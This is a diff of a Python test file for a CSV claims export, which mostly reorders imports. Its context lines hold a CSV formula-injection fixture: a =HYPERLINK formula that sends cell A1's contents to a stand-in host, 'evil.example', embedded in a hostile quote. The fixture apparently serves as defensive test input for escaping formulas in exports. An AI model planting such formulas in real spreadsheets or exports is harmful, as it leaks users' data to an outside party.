@@ -7,11 +7,17 @@ import io
 import json
 
 import pytest
+from helpers import FIXTURE_ARCHIVE, article_text
 
 from generator.derive.analysis import derive_from_bodies
-from generator.render.export import CLAIM_COLUMNS, FORMULA_START, ClaimRows, claims_csv, data_files
 from generator.read.load import load_archive
-from helpers import FIXTURE_ARCHIVE, article_text
+from generator.render.export import (
+    CLAIM_COLUMNS,
+    FORMULA_START,
+    ClaimRows,
+    claims_csv,
+    data_files,
+)
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Source")'
 HOSTILE_QUOTE = f'{FORMULA} : 3.000 soldats'
